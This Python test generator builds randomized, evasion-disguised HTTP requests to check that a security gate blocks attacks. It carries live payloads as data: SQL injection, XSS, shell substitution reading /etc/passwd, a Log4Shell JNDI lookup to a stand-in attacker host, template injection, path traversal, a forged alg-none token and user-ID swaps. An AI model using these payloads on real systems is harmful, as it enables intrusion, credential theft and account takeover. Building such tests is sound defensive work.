"""What a request of the test is to say, and the dice that say it crookedly."""

import dataclasses
import random

from servers import FOREIGN, SUBJECT

# Unmistakable ones: the gate refuses each of them wherever its class is judged. No two have a piece in common.
ATTACKS = {
    "sql": "x' UNION SELECT password FROM users WHERE '1'='1",
    "html": "<script>alert(document.cookie)</script>",
    "shell": "$(cat /etc/passwd)",
    "lookup": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}{{config.__class__.__init__.__globals__}}",
    "path": "../../../../etc/passwd",
}
OPERATOR = "$where"
FORGED = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1LTY2NjYifQ.e30"

WORDS = ["Ada", "Köln", "42", "new york", "O'Brien & sons", "a+b=c", "日本", "x@example.org", "100%", "résumé", "1;2"]


@dataclasses.dataclass
class Plan:
    """One request: what it carries where, and which tricks hide it."""

    seed: str
    number: int
    mode: str  # attack, exempt, bind, session or honest
    place: str
    name: str
    value: str
    fields: list  # ordinary (name, value) beside the planted one
    tricks: frozenset
    sent: dict = dataclasses.field(default_factory=dict)  # what an honest request means, by place

    def __call__(self, trick):
        return trick in self.tricks

    def dice(self, what):
        """Dice of their own for every decision: a request without one of its tricks is else the same."""
        return random.Random(f"{self.seed}/{self.number}/{what}")

    def one(self, what, options):
        return self.dice(what).choice(options)

    def pairs(self, what):
        """All names and values of the place, the planted one among them."""
        dice = self.dice(f"{what}-order")
        pairs = list(self.fields)
        at = dice.randrange(len(pairs) + 1)
        pairs.insert(at, (self.name, self.value))
        return pairs

    def target(self):
        if self.mode != "bind":
            return "/open/x"
        return "/users" if self.place == "path" else "/own/x"


def decoy(plan):
    """What stands in the planted value's place for the reader that is to be deceived."""
    return SUBJECT if plan.mode == "bind" else "fine"


def draw(seed, number, tricks_of, without=(), only_place=None):
    """The plan of one request; every tenth is honest. `tricks_of` has the tricks of each place."""
    dice = random.Random(f"{seed}/{number}")
    fields = [(name, dice.choice(WORDS)) for name in dice.sample(["a", "city", "remark", "tag"], dice.randrange(3))]
    if number % 10 == 0:
        place = only_place or dice.choice(["form", "multipart", "json", "query", "cookie"])
        return Plan(seed, number, "honest", place, "q", dice.choice(WORDS), fields, frozenset())
    mode = dice.choice(["attack", "attack", "attack", "exempt", "exempt", "bind", "bind", "session"])
    places = {"bind": [
        "query", "form", "multipart", "json", "header", "path",
    ], "session": ["cookie"]}.get(mode, list(tricks_of))
    place = only_place if only_place in places else dice.choice(places)
    if mode == "bind":
        name, value = "user_id", FOREIGN
    elif mode == "session":
        name, value = "session", FORGED
    else:
        name = "note" if mode == "exempt" else dice.choice(["q", "city", "remark"])
        kind = dice.choice(list(ATTACKS))
        if place == "header" and kind in ("html", "shell", "path"):
            kind = "lookup"
        if place == "file":
            kind = "lookup"
        if place == "filename":
            kind = dice.choice(["path", "lookup", "html"])
        value = ATTACKS[kind]
        if dice.randrange(8) == 0:
            name, value = value, "1"
        elif dice.randrange(8) == 0:
            value = dice.choice(["1", "Ada ", "\u00e4 "]) + value
    catalog = tricks_of[place]
    chosen = dice.sample(catalog, min(len(catalog), dice.choice([1, 1, 2, 2, 3, 4])))
    return Plan(seed, number, mode, place, name, value, fields, frozenset(chosen) - frozenset(without))
